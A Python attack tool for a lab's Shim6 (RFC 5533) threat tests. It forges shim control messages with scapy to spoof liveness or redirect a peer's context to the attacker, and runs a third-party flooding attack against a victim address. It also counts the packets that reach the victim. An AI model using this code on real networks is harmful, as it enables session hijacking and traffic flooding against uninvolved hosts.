"""An attacker's tool against the shim, for the lab's threat tests (thesis 4.3; RFC 5533 section 16).

Run from a node that is *not* on the path between two shim hosts::

    python -m agents.shim.attack forge --dst B --tag 0x1234 --kind keepalive --count 20
    python -m agents.shim.attack forge --dst B --kind critical --count 3
    python -m agents.shim.attack flood --peer B --victim V --prefix 2001:db8:f000::/64 --socket /tmp/m.sock
    python -m agents.shim.attack watch --dst V --from-net 2001:db8:b100::/40   # on the victim

``forge`` crafts shim control messages with scapy and sends them from this node's own address:
``keepalive`` / ``update`` / ``probe`` carry a context tag learnt while on the path once (the
time-shifted attack: keep a context alive, feed REAP false signs of life, or redirect the
peer to ourselves); ``critical`` carries an option type nobody knows with the C bit set.  It
listens while sending and prints one JSON line: how many messages went out, how many shim
packets came back, and each ICMPv6 parameter problem (with its pointer).

``flood`` opens a real context with a shim peer whose locator list also names a victim's
address (third-party flooding): the victim's address claims to be an HBA member, which it is
not, so the peer must never send to it.  It runs the ordinary daemon (same control socket) for
``--duration`` seconds and exits without a word, as an attacker that walks away would.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import select
import signal
import socket
import sys
import threading
import time
from dataclasses import replace
from typing import Any

from scapy.all import IPv6, Raw, conf, send  # type: ignore[import-untyped]

from . import messages as m
from .config import DaemonConfig
from .daemon import ShimDaemon
from .engine import ShimEngine

Address = ipaddress.IPv6Address
UNKNOWN_OPTION = 0x3FF0  # no RFC 5533 option has this type
KINDS = ("keepalive", "update", "probe", "critical")
ETH_P_IPV6, PACKET_OUTGOING = 0x86DD, 4


def forged(kind: str, tag: int, me: Address) -> Any:
    """The message ``kind`` for the peer's context ``tag``, from ``me``."""
    if kind == "keepalive":
        return m.Keepalive(receiver_context_tag=tag)
    if kind == "probe":  # a sign of life claiming to have heard the peer
        return m.Probe(receiver_context_tag=tag, state=m.REAP_OPERATIONAL, sent=(), received=(
            m.ProbeReport(source=me, destination=me, nonce=1, data=0),))
    if kind == "update":  # redirect the context to ourselves
        return m.UpdateRequest(receiver_context_tag=tag, request_nonce=0x5EED, options=(
            m.LocatorList(generation=1 << 30, methods=(m.VERIFY_HBA,), locators=(me,)),))
    return m.Keepalive(receiver_context_tag=tag, options=(m.UnknownOption(type=UNKNOWN_OPTION, data=b"x", critical=True),))


def forge(src: Address, dst: Address, kind: str, tag: int, count: int, interval: float, listen: float) -> dict[str, Any]:
    conf.verb = 0
    # raw sockets opened before the first message: the kernel queues whatever comes back meanwhile
    listeners = [socket.socket(socket.AF_INET6, socket.SOCK_RAW, proto) for proto in (140, socket.IPPROTO_ICMPV6)]
    payload = m.encode(forged(kind, tag, src))
    for _ in range(count):
        send(IPv6(src=str(src), dst=str(dst), nh=140) / Raw(payload))
        time.sleep(interval)
    shim, problems = 0, []
    deadline = time.monotonic() + listen
    while (left := deadline - time.monotonic()) > 0:
        ready, _, _ = select.select(listeners, [], [], left)
        for sock in ready:
            data, addr = sock.recvfrom(65535)
            if Address(addr[0].split("%")[0]) != dst:
                continue
            if sock is listeners[0]:
                shim += 1
            elif data[0] == 4 and len(data) >= 8 + 40 and data[8 + 6] == 140:  # a parameter problem about shim6
                problems.append({"code": data[1], "pointer": int.from_bytes(data[4:8], "big")})
    for sock in listeners:
        sock.close()
    return {"kind": kind, "sent": count, "shim_replies": shim, "parameter_problems": problems}


def flood(args: argparse.Namespace) -> int:
    """A real context with ``--peer`` whose locator list names ``--victim`` as one of ours."""
    config = DaemonConfig.from_sources(None, {"socket": args.socket, "prefixes": args.prefix, "sec": 0,
                                              "profile": "tuned", "connect": [args.peer], "ulp": False})
    engine = ShimEngine(config.identity(), config.timer_profile(), config.context_policy())
    honest = engine.identity.locator_options
    victim = Address(args.victim)

    def with_victim(ulid: Address, generation: int) -> tuple[object, ...]:
        loclist, *rest = honest(ulid, generation)
        return (replace(loclist, locators=(*loclist.locators, victim), methods=(*loclist.methods, m.VERIFY_HBA)), *rest)

    engine.identity.locator_options = with_victim  # type: ignore[method-assign]
    daemon = ShimDaemon(engine, config.socket, observe=False, icmp=False, log=sys.stdout, ulp=False)
    print(json.dumps({"kind": "ready", "ulids": [str(a) for a in engine.identity.ulids]}), flush=True)
    daemon.perform(engine.connect(daemon.now(), Address(args.peer)))
    threading.Timer(args.duration, lambda: setattr(daemon, "running", False)).start()
    daemon.run()
    return 0


def watch(dst: Address, sources: list[ipaddress.IPv6Network], seconds: float) -> dict[str, Any]:
    """The victim's side: count the IPv6 packets that reach ``dst`` from ``sources``, by protocol."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IPV6))
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())  # terminated: report what was counted so far
    print(json.dumps({"kind": "ready"}), flush=True)
    kinds: dict[str, int] = {}
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0 and not stop.is_set():
        ready, _, _ = select.select([sock], [], [], min(left, 0.2))
        if not ready:
            continue
        data, addr = sock.recvfrom(128)
        if len(data) < 40 or addr[2] == PACKET_OUTGOING or Address(data[24:40]) != dst:
            continue
        if any(Address(data[8:24]) in net for net in sources):
            name = {140: "shim6", 58: "icmpv6", 17: "udp", 6: "tcp"}.get(data[6], str(data[6]))
            kinds[name] = kinds.get(name, 0) + 1
    sock.close()
    return {"kind": "watched", "packets": sum(kinds.values()), "by_protocol": kinds}


def parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m agents.shim.attack", description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="verb", required=True)
    f = sub.add_parser("forge", help="send forged shim messages from this node and count what comes back")
    f.add_argument("--src", required=True, help="this node's address (the attacker's own)")
    f.add_argument("--dst", required=True, help="the shim host attacked")
    f.add_argument("--tag", default="0", help="the peer's context tag, learnt on the path (hex or decimal)")
    f.add_argument("--kind", choices=KINDS, default="keepalive")
    f.add_argument("--count", type=int, default=10)
    f.add_argument("--interval", type=float, default=0.1, help="seconds between messages")
    f.add_argument("--listen", type=float, default=1.0, help="seconds to keep listening after the last one")
    fl = sub.add_parser("flood", help="open a context naming a victim's address as one of our locators")
    fl.add_argument("--peer", required=True, help="the shim host to lure into sending to the victim")
    fl.add_argument("--victim", required=True, help="the address claimed as ours")
    fl.add_argument("--prefix", action="append", required=True, help="our own /64 (repeat)")
    fl.add_argument("--socket", required=True, help="control socket of the attacker's daemon")
    fl.add_argument("--duration", type=float, default=5.0, help="seconds before walking away")
    w = sub.add_parser("watch", help="(on the victim) count packets reaching an address from given networks")
    w.add_argument("--dst", required=True, help="the victim's address")
    w.add_argument("--from-net", dest="nets", action="append", required=True, help="a source network to count")
    w.add_argument("--seconds", type=float, default=10.0, help="how long to count (SIGTERM ends it early)")
    return p


def main(argv: list[str] | None = None) -> int:
    args = parser().parse_args(argv)
    if args.verb == "flood":
        return flood(args)
    if args.verb == "watch":
        print(json.dumps(watch(Address(args.dst), [ipaddress.IPv6Network(n) for n in args.nets], args.seconds)))
        return 0
    result = forge(Address(args.src), Address(args.dst), args.kind, int(args.tag, 0), args.count, args.interval,
                   args.listen)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
